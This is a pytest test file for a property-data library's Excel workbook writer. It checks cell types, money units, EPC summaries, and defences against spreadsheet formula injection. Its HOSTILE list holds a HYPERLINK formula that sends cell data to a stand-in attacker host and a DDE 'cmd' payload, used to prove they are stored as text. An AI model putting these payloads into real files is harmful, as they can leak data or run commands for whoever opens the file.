"""The portfolio workbook, opened as a client opens it (openpyxl, and the raw XML): its sheets,
typed cells (numbers, £, dates), frozen headers and filters; text from outside never a formula,
whatever it begins with or holds; the EPC profile recomputed from the records themselves."""

from __future__ import annotations

import copy
import os
import zipfile
from collections import Counter
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

import propertykit as pk
from propertykit.errors import InvalidInput
from propertykit.views import write_workbook
from propertykit.views._workbook import MAX_ROWS
from propertykit.views._workbook_cells import MAX_CELL_CHARACTERS
from tests.views.conftest import VALUED_SUBJECT

TODAY = "2025-01-01"
#: Text a client's file or the service might send, meant to run in a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "nul\x00byte",
    "bell\x07and\x1bescape",
    "lone \ud800 surrogate",
    "not a character \uffff",
    "x" * 40_000,
    "0123",  # looks like a number: stays text
    "_x0041_",  # looks like the format's own escape of a character
]
#: The columns of client.match_addresses' frame that the test frames fill in (the contract's).
MATCH_COLUMNS = ["input", "status", "locationId", "matched_address", "score",
                 "candidates", "reason"]  # fmt: skip


@pytest.fixture(scope="module")
def records(valued_records: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """A book of 300 homes of the sandbox's world, and one with a dozen comparables in it."""
    return [*valued_records[:300], valued_records[int(VALUED_SUBJECT.removeprefix("PK"))]]


@pytest.fixture(scope="module")
def frame(records: list[dict[str, Any]]) -> pd.DataFrame:
    return pk.frame(records)


def matches_for(inputs: list[str], ids: list[str]) -> pd.DataFrame:
    """A frame shaped as ``client.match_addresses`` answers: matched, ambiguous, unmatched."""
    statuses = ["matched", "ambiguous", "unmatched"]
    rows = []
    for position, text in enumerate(inputs):
        status = statuses[position % 3]
        rows.append(
            {
                "input": text,
                "status": status,
                "locationId": ids[position] if status == "matched" else None,
                "matched_address": text if status == "matched" else None,
                "score": 97.5 if status == "matched" else None,
                "candidates": ids[position : position + 2] if status == "ambiguous" else [],
                "reason": None if status == "matched" else f"no flat number in {text}",
            }
        )
    matches = pd.DataFrame(rows, columns=MATCH_COLUMNS, dtype=object)  # can hold any str
    matches.index = pd.RangeIndex(2, 2 + len(matches), name="row in file")
    matches.attrs = {"requests_sent": 3, "from_cache": 0, "charged": 0}
    return matches


@pytest.fixture(scope="module")
def book(
    frame: pd.DataFrame, valued_frame: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """A workbook of every sheet, written once for the tests that only read it; the book is
    valued against the evidence of the whole world of 3,000 homes."""
    subjects = [*frame["propertyId"][:19], VALUED_SUBJECT]
    valuation = valued_frame.pk.valuation(subjects, as_of=TODAY)
    matches = matches_for(["1 High St", "Flat 2, 3 Mill Lane", "nowhere"], list(frame.locationId))
    usage = {"requests_sent": 7, "cache_hits": 2, "billable_requests": 6}
    path = tmp_path_factory.mktemp("book") / "book.xlsx"
    return write_workbook(
        frame,
        path,
        valuation=valuation,
        matches=matches,
        usage=usage,
        source="the propertykit sandbox (seed 0)",
        today=TODAY,
    )


def as_excel_reads(text: str) -> str:
    """A string cell's text as Excel shows it. xlsxwriter writes a carriage return as the format's
    escape ``_x000D_``, which Excel decodes and openpyxl leaves (openpyxl decodes only the escaped
    underscore, ``_x005F_``, of text that reads like an escape)."""
    return text.replace("_x000D_", "\r")


def rows_of(sheet: Any) -> list[dict[str, Any]]:
    """A sheet's rows as dicts of cells by header."""
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=False)) for row in sheet.iter_rows(min_row=2)]


def notes_of(workbook: Any) -> dict[str, str]:
    return {row[0].value: row[1].value for row in workbook["Notes"].iter_rows(min_row=2)}


def test_sheets_are_named_frozen_and_filtered(book: Path, frame: pd.DataFrame) -> None:
    workbook = openpyxl.load_workbook(book)
    assert workbook.sheetnames == [
        "Properties", "Sales", "EPC", "EPC profile", "Valuation", "Matches", "Notes"
    ]  # fmt: skip
    for name in ("Properties", "Sales", "EPC", "Valuation", "Matches"):
        sheet = workbook[name]
        assert sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" + str(
            sheet.max_row
        )
    properties = workbook["Properties"]
    assert [cell.value for cell in properties[1]] == list(frame.columns)  # every field kept
    assert properties.max_row == len(frame) + 1
    widths = [properties.column_dimensions[c].width for c in ("A", "C")]
    assert 8 < widths[0] < widths[1] < 53  # ids narrow, addresses wide, nothing endless


def test_cells_are_typed_numbers_pounds_dates_and_text(book: Path, frame: pd.DataFrame) -> None:
    workbook = openpyxl.load_workbook(book)
    first = rows_of(workbook["Properties"])[0]
    record = frame.iloc[0]
    value = first["pricing.estimatedSaleValue"]
    assert value.data_type == "n" and value.value == record["pricing.estimatedSaleValue"]
    assert "£" in value.number_format
    assert first["address.streetNumber"].value == str(record["address.streetNumber"])
    assert first["address.streetNumber"].data_type == "s"  # a number-like text stays text
    assert isinstance(first["epc.validTo"].value, datetime)
    assert first["epc.validTo"].value.date() == record["epc.validTo"].date()
    assert first["epc.validTo"].number_format == "yyyy-mm-dd"
    assert first["tags.newBuild"].value is bool(record["tags.newBuild"])
    sale = rows_of(workbook["Sales"])[0]
    assert isinstance(sale["date"].value, datetime) and "£" in sale["price"].number_format
    assert sale["price"].value == frame.pk.sales()["price"].iloc[0]
    history = first["saleHistory"].value  # readable JSON text of every sale
    assert history.startswith("[{") and str(record["saleHistory"][0]["date"]) in history


def test_valuation_and_matches_sheets(book: Path, frame: pd.DataFrame) -> None:
    workbook = openpyxl.load_workbook(book)
    valued = rows_of(workbook["Valuation"])
    assert len(valued) == 20
    assert valued[0]["address"].value == frame["address.displayAddress"].iloc[0]
    assert isinstance(valued[0]["as_of"].value, datetime)
    estimated = [row for row in valued if row["estimate"].value is not None]
    assert valued[-1]["propertyId"].value == VALUED_SUBJECT and valued[-1] in estimated
    assert all("£" in row["estimate"].number_format for row in estimated)
    matches = rows_of(workbook["Matches"])
    assert [row["status"].value for row in matches] == ["matched", "ambiguous", "unmatched"]
    assert [row["row in file"].value for row in matches] == [2, 3, 4]
    assert matches[1]["candidates"].value.startswith('["L')
    notes = notes_of(workbook)
    assert "1 matched, 1 ambiguous" in notes["Matches"] and "1 unmatched" in notes["Matches"]


def test_notes_say_source_cost_and_made_up_data(book: Path) -> None:
    notes = notes_of(openpyxl.load_workbook(book))
    assert notes["Source"] == "the propertykit sandbox (seed 0)"
    assert "not real homes" in notes["Made-up data"]
    assert notes["Requests sent"].startswith("7 ") and notes["Billable requests"].startswith("6 ")
    assert notes["From the cache"].startswith("2 ")
    assert "80 %" in notes["Valuation"] and "not a formal valuation" in notes["Valuation"]


def test_prices_are_pounds_when_served_in_pence(
    records: list[dict[str, Any]], frame: pd.DataFrame, tmp_path: Path
) -> None:
    pence = copy.deepcopy(records[:40])
    for record in pence:
        for sale in record.get("saleHistory") or []:
            sale["price"] *= 100
        for name in ("estimatedSaleValue", "currentSalePrice"):
            if record["pricing"].get(name) is not None:
                record["pricing"][name] *= 100
    served = pk.frame(pence, money_unit="minor")
    valuation = pd.DataFrame({"propertyId": ["PK00000000"], "estimate": [25_000_000.0]})
    valuation.attrs["money_unit"] = "minor"  # a table of one's own says its unit
    path = write_workbook(served, tmp_path / "pence.xlsx", valuation=valuation, today=TODAY)
    workbook = openpyxl.load_workbook(path)
    first = rows_of(workbook["Properties"])[0]
    assert first["pricing.estimatedSaleValue"].value == frame["pricing.estimatedSaleValue"].iloc[0]
    pounds = [row["price"].value for row in rows_of(workbook["Sales"])]
    assert pounds == frame.iloc[:40].pk.sales()["price"].tolist()
    assert rows_of(workbook["Valuation"])[0]["estimate"].value == 250_000
    assert "divided by 100" in notes_of(workbook)["Money"]


def test_hostile_text_is_never_a_formula_and_never_crashes(
    records: list[dict[str, Any]], tmp_path: Path
) -> None:
    hostile = copy.deepcopy(records[: len(HOSTILE)])
    for record, text in zip(hostile, HOSTILE, strict=True):
        text = text.replace("\ud800", "(set below)")
        record["address"]["displayAddress"] = text
        record["address"]["streetName"] = text
        record["note"] = text  # a field the spec does not name
    hostile[0]["=HYPERLINK(1)"] = "a field named as a formula"
    df = pk.frame(hostile)
    # Arrow's strings cannot hold a lone surrogate; a frame of Python strings can (a client's
    # file read with errors="surrogateescape", a JSON "\\ud800").
    for name in ("address.displayAddress", "address.streetName", "note"):
        df[name] = df[name].astype(object)
        df.loc[HOSTILE.index("lone \ud800 surrogate"), name] = "lone \ud800 surrogate"
    matches = matches_for(HOSTILE, list(df["locationId"]))
    path = write_workbook(
        df, tmp_path / "hostile.xlsx", matches=matches, source="+evil", today=TODAY
    )
    # No formula in the file at all: no <f> element in any sheet's XML.
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n)
                                  for n in sheets)  # fmt: skip
    workbook = openpyxl.load_workbook(path)
    every = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in every if cell.data_type == "f"]
    shown = [row["address.displayAddress"] for row in rows_of(workbook["Properties"])]
    inputs = [row["input"] for row in rows_of(workbook["Matches"])]
    for cells in (shown, inputs):
        for cell, text in zip(cells, HOSTILE, strict=True):
            assert cell.data_type == "s", text[:20]
            if text.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert as_excel_reads(cell.value) == text and cell.quotePrefix, (
                    text
                )  # kept exactly, as text
    by_text = dict(zip(HOSTILE, shown, strict=True))
    assert by_text["nul\x00byte"].value == "nul\\x00byte"
    assert by_text["bell\x07and\x1bescape"].value == "bell\\x07and\\x1bescape"
    assert by_text["lone \ud800 surrogate"].value == "lone \\ud800 surrogate"
    assert by_text["not a character \uffff"].value == "not a character \\uffff"
    assert by_text["0123"].value == "0123"
    assert as_excel_reads(by_text["_x0041_"].value) == "_x0041_"
    long = by_text["x" * 40_000].value
    assert len(long) <= MAX_CELL_CHARACTERS and long.endswith("[cut: 40,000 characters in all]")
    header = [cell.value for cell in workbook["Properties"][1]]
    assert "=HYPERLINK(1)" in header
    notes = notes_of(workbook)
    assert notes["Source"] == "+evil"
    # 3 on Properties (address, street, note), 2 on Matches (input, and the reason quoting it)
    assert "5 cells held more than 32,767 characters" in notes["Text"]


def test_epc_profile_recomputed_from_the_records(book: Path, records: list[dict[str, Any]]) -> None:
    sheet = openpyxl.load_workbook(book)["EPC profile"]
    bands = {row[0].value: (row[1].value, row[2].value) for row in sheet.iter_rows(2, 8)}
    totals = {row[4].value: row[5].value for row in sheet.iter_rows(2, sheet.max_row)}
    ratings = Counter(
        (r.get("epc") or {}).get("currentEnergyRating") for r in records
    )  # the records as served, not the frame
    rated = sum(ratings[band] for band in "ABCDEFG")
    for band in "ABCDEFG":
        count, share = bands[band]
        assert count == ratings[band]
        assert share == pytest.approx(ratings[band] / rated)
    below = sum(ratings[band] for band in "DEFG")
    assert totals["Share below C (D to G)"] == pytest.approx(below / rated)
    assert totals["Without a rating"] == len(records) - rated
    today, a_year_on = date(2025, 1, 1), date(2026, 1, 1)
    ends = [date.fromisoformat(r["epc"]["validTo"][:10]) for r in records if
            (r.get("epc") or {}).get("validTo")]  # fmt: skip
    assert totals["Certificates expired before 01 January 2025"] == sum(d < today for d in ends)
    expiring = sum(today <= d < a_year_on for d in ends)
    assert totals["Certificates expiring within a year of 01 January 2025"] == expiring
    assert 0 < expiring < len(ends)  # the sandbox's certificates do end around then


def test_a_workbook_is_an_xlsx_file_and_usage_must_count(
    frame: pd.DataFrame, tmp_path: Path
) -> None:
    with pytest.raises(InvalidInput, match="xlsx"):
        write_workbook(frame, tmp_path / "book.csv")
    with pytest.raises(InvalidInput, match="requests_sent"):
        write_workbook(frame, tmp_path / "book.xlsx", usage={"requests_sent": 1})
    assert list(tmp_path.iterdir()) == []  # nothing written, not even a temporary file


def test_an_empty_frame_still_makes_a_workbook_others_may_read(tmp_path: Path) -> None:
    path = write_workbook(pk.frame([]), tmp_path / "empty.xlsx", today=TODAY)
    umask = os.umask(0o022)
    os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask  # as any file made here, not 0600
    assert [p.name for p in tmp_path.iterdir()] == ["empty.xlsx"]  # no temporary file left
    workbook = openpyxl.load_workbook(path)
    assert workbook["Properties"].max_row == 1
    assert "0 properties" in notes_of(workbook)["Properties"]


@pytest.mark.timeout(60)
def test_a_frame_served_in_pence_by_the_vepler_profile_is_written_in_pounds(
    tmp_path: Path,
) -> None:
    with (
        pk.sandbox.serve(profile="vepler") as sb,
        pk.Client(sb.api_key, sb.url, cache=False, profile="vepler", progress=False) as client,
    ):
        df = client.properties(sb.location_ids[:12])
    assert df.attrs["money_unit"] == "minor"  # the service's own unit, kept in the frame
    path = write_workbook(df, tmp_path / "vepler.xlsx", usage=client.usage, today=TODAY)
    workbook = openpyxl.load_workbook(path)
    pounds = df.pk.in_pounds()
    written = [row["pricing.estimatedSaleValue"].value for row in rows_of(workbook["Properties"])]
    expected = pounds["pricing.estimatedSaleValue"].tolist()
    assert written == [None if pd.isna(v) else v for v in expected]
    assert all(v is None or v < 10_000_000 for v in written)  # pounds, not pence
    sold = [row["price"].value for row in rows_of(workbook["Sales"])]
    assert sold == pounds.pk.sales()["price"].tolist()
    assert (
        "Billable requests" in notes_of(workbook)
        and "divided by 100" in notes_of(workbook)["Money"]
    )


def test_a_sheet_past_excels_rows_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    rows = MAX_ROWS  # with the header, one row too many
    matches = pd.DataFrame({"input": [""] * rows, "status": ["unmatched"] * rows})
    with pytest.raises(InvalidInput, match=r"Matches \(1,048,576 rows\)"):
        write_workbook(pk.frame([]), tmp_path / "big.xlsx", matches=matches)
    assert list(tmp_path.iterdir()) == []


def test_the_matches_sheet_keeps_blank_rows_says_repeats_and_flags_formulas(
    frame: pd.DataFrame, tmp_path: Path
) -> None:
    """Every row of the list, blank ones with their numbers; a repeat names the row it repeats;
    text that began as a formula would is flagged and stored as text, never a formula."""
    inputs = ["1 High St", "", "1  HIGH st", "=1 High St", "bell\x07", "+44 Mill Lane", ""]
    matches = matches_for(inputs, list(frame.locationId))
    path = write_workbook(frame.head(3), tmp_path / "book.xlsx", matches=matches)
    workbook = openpyxl.load_workbook(path)
    rows = rows_of(workbook["Matches"])
    assert [row["row in file"].value for row in rows] == [2, 3, 4, 5, 6, 7, 8]  # no jumps
    assert [row["input"].value for row in rows][1] is None  # the blank row is there, blank
    assert [row["repeats row"].value for row in rows] == [None, None, 2, None, None, None, None]
    flags = [row["flag"].value for row in rows]
    assert flags[:3] == [None, None, None]
    assert flags[3].startswith("“input” began with “=”, as a formula does: written as text")
    assert flags[4] == "“input” holds control characters: spelled out"
    assert flags[5] is not None and flags[5].startswith("“input” began with “+”")
    for cell in (rows[3]["input"], rows[5]["input"]):
        assert cell.data_type == "s" and cell.quotePrefix  # text, never a formula
    assert rows[3]["input"].value == "=1 High St"
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)
    notes = notes_of(workbook)["Matches"]
    assert "1 row repeats an earlier row (repeats row)" in notes
    assert "3 rows flagged (flag)" in notes


# -- money as data: each table in pounds by the unit it says ----------------------------------

#: Homes of :func:`small_world` that have enough comparables to be valued.
VALUED_IN_SMALL_WORLD = ["PK00000035", "PK00000044"]


@pytest.fixture(scope="module")
def small_world() -> list[dict[str, Any]]:
    """1,000 sandbox homes (in pounds): the smallest world where a few are valued."""
    from propertykit.sandbox import generate_records

    return generate_records(1000)


@pytest.fixture(scope="module")
def small_world_frame(small_world: list[dict[str, Any]]) -> pd.DataFrame:
    return pk.frame(small_world)


def the_valued(df: pd.DataFrame) -> pd.DataFrame:
    """The valued homes' rows only (what a book holds; a workbook of them is quick to write)."""
    return df[df["propertyId"].isin(VALUED_IN_SMALL_WORLD)]


@pytest.fixture(scope="module")
def small_world_in_pence(small_world: list[dict[str, Any]]) -> pd.DataFrame:
    """The same homes served in pence, said (``money_unit="minor"``)."""
    pence = copy.deepcopy(small_world)
    for record in pence:
        for sale in record.get("saleHistory") or []:
            sale["price"] *= 100
        for name in ("estimatedSaleValue", "currentSalePrice"):
            if record["pricing"].get(name) is not None:
                record["pricing"][name] *= 100
    return pk.frame(pence, money_unit="minor")


@pytest.fixture(scope="module")
def estimates(small_world_frame: pd.DataFrame) -> list[float]:
    """The estimates in pounds, from the frame in pounds: what every workbook must show."""
    values = small_world_frame.pk.valuation(VALUED_IN_SMALL_WORLD, as_of=TODAY)
    assert values["estimate"].notna().all()
    return values["estimate"].tolist()


def written_estimates(path: Path) -> list[float]:
    return [row["estimate"].value for row in rows_of(openpyxl.load_workbook(path)["Valuation"])]


def test_a_valuation_in_pounds_beside_a_frame_in_pence_is_written_in_pounds_not_100_times_less(
    small_world_in_pence: pd.DataFrame, estimates: list[float], tmp_path: Path
) -> None:
    # Issue 54: appraise replaced attrs, so the workbook took this valuation for pence.
    valuation = small_world_in_pence.pk.in_pounds().pk.valuation(VALUED_IN_SMALL_WORLD, as_of=TODAY)
    path = write_workbook(
        the_valued(small_world_in_pence), tmp_path / "b.xlsx", valuation=valuation
    )
    assert written_estimates(path) == pytest.approx(estimates)
    workbook = openpyxl.load_workbook(path)
    assert "Properties served in pence, divided by 100" in notes_of(workbook)["Money"]
    assert "Valuation in pounds as given" in notes_of(workbook)["Money"]
    first = rows_of(workbook["Valuation"])[0]["estimate"]
    assert "£" in first.number_format


def test_a_valuation_in_pence_beside_a_frame_in_pounds_is_written_in_pounds_not_100_times_more(
    small_world_frame: pd.DataFrame,
    small_world_in_pence: pd.DataFrame,
    estimates: list[float],
    tmp_path: Path,
) -> None:
    valuation = small_world_in_pence.pk.valuation(VALUED_IN_SMALL_WORLD, as_of=TODAY)
    assert valuation["estimate"].tolist() == pytest.approx([e * 100 for e in estimates])
    book = the_valued(small_world_frame)
    path = write_workbook(book, tmp_path / "b.xlsx", valuation=valuation)
    assert written_estimates(path) == pytest.approx(estimates)
    in_pence = the_valued(small_world_in_pence)
    pence_too = write_workbook(in_pence, tmp_path / "c.xlsx", valuation=valuation)
    assert written_estimates(pence_too) == pytest.approx(estimates)
    sales = [row["price"].value for row in rows_of(openpyxl.load_workbook(pence_too)["Sales"])]
    assert sales == book.pk.sales()["price"].tolist()


def test_a_valuation_that_lost_its_unit_beside_a_frame_is_refused_before_writing(
    small_world_in_pence: pd.DataFrame, estimates: list[float], tmp_path: Path
) -> None:
    valuation = pd.DataFrame(
        {"propertyId": VALUED_IN_SMALL_WORLD, "estimate": estimates}
    )  # e.g. merged with a table of one's own: pandas drops attrs that differ
    with pytest.raises(InvalidInput, match="Valuation says no money unit while Properties is in"):
        write_workbook(the_valued(small_world_in_pence), tmp_path / "b.xlsx", valuation=valuation)
    assert not list(tmp_path.iterdir())  # nothing written


def test_a_concat_of_pence_and_pounds_is_flagged_and_written_without_a_pound_sign(
    small_world_frame: pd.DataFrame, small_world_in_pence: pd.DataFrame, tmp_path: Path
) -> None:
    pounds = small_world_frame
    mixed = pd.concat([small_world_in_pence.iloc[:20], pounds.iloc[20:40]], ignore_index=True)
    with pytest.warns(pk.errors.MinorUnitsWarning, match="says no money unit"):
        path = write_workbook(mixed, tmp_path / "mixed.xlsx")
    workbook = openpyxl.load_workbook(path)
    assert "no unit (pounds or pence)" in notes_of(workbook)["Money"]
    value = rows_of(workbook["Properties"])[0]["pricing.estimatedSaleValue"]
    assert "£" not in value.number_format  # not said to be pounds: no sign
